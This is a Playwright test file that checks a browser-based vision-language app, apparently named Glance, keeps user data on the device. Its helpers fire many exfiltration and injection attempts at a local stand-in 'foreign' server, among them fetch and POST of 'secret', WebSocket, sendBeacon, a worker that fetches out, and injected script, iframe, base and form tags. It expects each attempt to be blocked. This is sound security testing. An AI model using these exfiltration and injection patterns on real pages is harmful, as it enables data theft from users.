/** What leaves the device, and what is kept from leaving it. */
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type BrowserContext, chromium, expect, type Page, test, type Worker } from '@playwright/test';
import { chromiumFlags, findChromium } from '../support/chromium.ts';
import { netLogFlags, readNetLog } from '../support/net_log.ts';
import { repositoryRoot } from '../support/root.ts';
import { serveFolders } from '../support/server.ts';
import { heldOut, samples, Visitor } from './visitor.ts';

const dist = join(repositoryRoot, 'dist');

/** Kinds of questions that pico was trained on. */
const TASKS = ['how many', 'shape of a colour', 'colour of a shape'];
const QUESTIONS = 20;

/** A site of somebody else, which answers everything, lets everybody read it, and writes down what it is asked. */
async function startForeign(): Promise<{ url: string; asked: string[]; server: Server }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    const { method, url, headers } = request;
    asked.push([method, url, headers.origin, headers.referer, headers.cookie].filter(Boolean).join(' '));
    const picture = url?.endsWith('.png') ? heldOut('how many').picture : null;
    const type = picture?.mimeType ?? 'text/javascript';
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': type });
    response.end(picture?.buffer ?? 'globalThis.intruded = true;');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  // Another name than the site's is another site, also where both are the same machine.
  return { url: `http://localhost:${(server.address() as AddressInfo).port}/`, asked, server };
}

/** Collects what browsers say about policies that were broken, on pages and in workers. */
function watchPolicies(context: BrowserContext): string[] {
  const broken: string[] = [];
  context.on('console', (message) => {
    const text = message.text();
    if (/content security policy|trusted ?types?|Trusted(HTML|Script)/i.test(text)) broken.push(text);
  });
  return broken;
}

test('twenty questions with pictures: the browser asks the network for files of the site, and for nothing else', async () => {
  test.setTimeout(300_000);
  const scratch = await mkdtemp(join(tmpdir(), 'glance-'));
  const log = join(scratch, 'net.json');
  const server = await serveFolders({ '/some/path/': dist });
  const browser = await chromium.launch({
    executablePath: findChromium(),
    args: [...chromiumFlags, ...netLogFlags(log)],
  });
  try {
    const context = await browser.newContext();
    const broken = watchPolicies(context);
    const page = await context.newPage();
    const visitor = new Visitor(page);
    await page.goto(`${server.url}some/path/index.html`);
    await visitor.sample(samples[0]!.question).click();
    await visitor.expectAnswer(samples[0]!.answer);
    for (let i = 1; i < QUESTIONS; i++) {
      // Once in the middle the service worker has taken over, and the page comes out of its cache.
      if (i === QUESTIONS / 2) {
        await ready(page);
        await page.reload();
      }
      const { picture, question, answer } = heldOut(TASKS[i % TASKS.length]!, Math.floor(i / TASKS.length));
      await visitor.button('New conversation').click();
      await visitor.pick(picture);
      await visitor.ask(question);
      await visitor.expectAnswer(answer);
    }
    expect(broken).toEqual([]);
  } finally {
    await browser.close();
    await server.close();
  }
  const { requests, hosts } = await readNetLog(log);
  await rm(scratch, { recursive: true, force: true });
  const site = `${server.url}some/path/`;
  // Chromium looks after itself as well: for updates, for accounts. That is nothing a page has begun.
  const pages = requests.filter(({ url, initiator }) => initiator !== null || url.startsWith(site));
  const own = pages.filter(({ initiator }) => initiator === new URL(site).origin);
  expect(own.some(({ url }) => url.endsWith('.gguf'))).toBe(true);
  expect(own.some(({ url }) => url.endsWith('.wasm.gz'))).toBe(true);
  expect(pages.filter(({ url }) => !url.startsWith(site) || new URL(url).search !== '')).toEqual([]);
  const others = requests
    .filter((request) => !pages.includes(request))
    .map(({ url }) => new URL(url).hostname);
  const looked = hosts.map((host) => host.replace(/^https?:\/\//, '').replace(/:\d+$/, ''));
  expect(looked.filter((host) => host !== '127.0.0.1' && !others.includes(host))).toEqual([]);
});

async function ready(page: Page): Promise<void> {
  await new Visitor(page).chip().click();
  await page.getByRole('button', { name: 'What leaves this device' }).click();
  const view = page.getByRole('dialog', { name: 'What leaves this device' });
  await expect(view.getByRole('status')).toContainText('Glance works without a network', { timeout: 90_000 });
  await page.keyboard.press('Escape');
}

/** Markup as an answer, a file or a fault might bring it onto the page. Runs in the page. */
async function injectMarkup(foreign: string): Promise<string[]> {
  const passed: string[] = [];
  const scope = globalThis as { intruded?: boolean };
  const tag = <K extends keyof HTMLElementTagNameMap>(name: K, attributes: Record<string, string>) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) {
      try {
        element.setAttribute(key, value);
      } catch {}
    }
    document.body.append(element);
    return element;
  };
  for (const sink of ['innerHTML', 'outerHTML'] as const) {
    try {
      const element = document.createElement('div');
      document.createElement('p').append(element);
      element[sink] = `<img src="${foreign}${sink}">`;
      passed.push(sink);
    } catch {}
  }
  const inline = document.createElement('script');
  try {
    inline.text = 'globalThis.intruded = true';
    document.body.append(inline);
  } catch {}
  try {
    document.createElement('script').src = `${foreign}script`;
    passed.push('the address of a script');
  } catch {}
  tag('div', { onclick: 'globalThis.intruded = true' }).click();
  tag('img', { src: `${foreign}img` });
  tag('iframe', { src: `${foreign}iframe` });
  tag('object', { data: `${foreign}object` });
  tag('video', { src: `${foreign}video` });
  tag('link', { rel: 'stylesheet', href: `${foreign}stylesheet` });
  tag('link', { rel: 'prefetch', href: `${foreign}prefetch` });
  tag('link', { rel: 'manifest', href: `${foreign}manifest` });
  tag('div', { style: `background: url(${foreign}style)` });
  const sheet = new CSSStyleSheet();
  sheet.replaceSync(`body { background-image: url(${foreign}sheet) }`);
  document.adoptedStyleSheets.push(sheet);
  tag('base', { href: foreign });
  if (!document.baseURI.startsWith(location.origin)) passed.push('base');
  const form = tag('form', { action: `${foreign}form`, method: 'post', target: '_blank' });
  form.submit();
  await new Promise((resolve) => setTimeout(resolve, 500));
  if (scope.intruded) passed.push('a script');
  return passed;
}

/** Everything by which a script can send something. Runs in the page and in workers. */
async function trySending(foreign: string): Promise<string[]> {
  const passed: string[] = [];
  const attempt = async (name: string, send: () => unknown) => {
    try {
      await send();
      passed.push(name);
    } catch {}
  };
  await attempt('fetch', () => fetch(`${foreign}fetch`));
  await attempt('post', () => fetch(`${foreign}post`, { method: 'POST', mode: 'no-cors', body: 'secret' }));
  await attempt('import', () => import(`${foreign}import`));
  await attempt('eval', () => new Function('return 1')());
  const opened = (target: EventTarget) =>
    new Promise((resolve, reject) => {
      target.addEventListener('open', resolve);
      target.addEventListener('load', resolve);
      target.addEventListener('error', reject);
      setTimeout(reject, 1000);
    });
  await attempt('WebSocket', () => opened(new WebSocket(foreign.replace('http', 'ws'))));
  await attempt('EventSource', () => opened(new EventSource(`${foreign}events`)));
  await attempt('XMLHttpRequest', () => {
    const request = new XMLHttpRequest();
    request.open('POST', `${foreign}xhr`);
    request.send('secret');
    return opened(request);
  });
  // It says that it was sent, and is stopped behind that.
  if ('sendBeacon' in navigator) navigator.sendBeacon(`${foreign}beacon`, 'secret');
  await attempt('worker', () => {
    const script = `await fetch('${foreign}nested'); postMessage('out')`;
    const address = URL.createObjectURL(new Blob([script], { type: 'text/javascript' }));
    const worker = new Worker(address, { type: 'module' });
    return new Promise((resolve, reject) => {
      worker.onmessage = resolve;
      worker.onerror = reject;
      setTimeout(reject, 1000);
    }).finally(() => worker.terminate());
  });
  return passed;
}

test('what is injected into the page, or runs in its workers, cannot fetch or send elsewhere', async ({
  context,
  page,
}) => {
  test.slow();
  const server = await serveFolders({ '/some/path/': dist });
  const foreign = await startForeign();
  const visitor = new Visitor(page);
  try {
    await page.goto(`${server.url}some/path/index.html`);
    // The first visit, under what the page itself says: its host has no headers. Then one out of the cache.
    for (const visit of ['first', 'next']) {
      await expect(visitor.chip()).toBeVisible();
      await visitor.chip().click();
      await visitor.button('Choose another model').click();
      await expect(page.getByRole('dialog', { name: 'Models' })).toBeVisible();
      await page.keyboard.press('Escape');
      const workers = (): Worker[] => page.workers();
      await expect.poll(() => workers().length, { message: `${visit} visit` }).toBe(2);
      for (const worker of workers()) {
        expect.soft(await worker.evaluate(trySending, foreign.url), worker.url()).toEqual([]);
      }
      expect.soft(await page.evaluate(trySending, foreign.url)).toEqual([]);
      expect.soft(await page.evaluate(injectMarkup, foreign.url)).toEqual([]);
      expect(foreign.asked, `${visit} visit`).toEqual([]);
      // It takes more than this to keep it from answering.
      await visitor.sample(samples[0]!.question).click();
      await visitor.expectAnswer(samples[0]!.answer);
      if (visit === 'first') {
        await ready(page);
        await page.goto(`${server.url}some/path/index.html`);
      }
    }
    expect(context.pages()).toHaveLength(1);
    // A picture that a request names is fetched for the engine, which could not; its server learns the site alone.
    const { question, answer } = heldOut('how many');
    const said = await page.evaluate(
      async ({ url, question }) => {
        const content = [
          { type: 'image_url', image_url: { url } },
          { type: 'text', text: question },
        ];
        const body = JSON.stringify({ model: 'pico', messages: [{ role: 'user', content }], temperature: 0 });
        const response = await fetch('v1/chat/completions', { method: 'POST', body });
        return response.text();
      },
      { url: `${foreign.url}picture.png`, question },
    );
    expect(JSON.parse(said).choices?.[0].message.content, said).toBe(answer);
    expect(foreign.asked.splice(0)).toEqual([`GET /picture.png ${new URL(server.url).origin}`]);
    // The same server can be reached where nothing forbids it.
    const other = await context.newPage();
    await other.goto(`${foreign.url}page`);
    expect(await other.evaluate(trySending, foreign.url)).toContain('fetch');
  } finally {
    foreign.server.close();
    foreign.server.closeAllConnections();
    await server.close();
  }
});
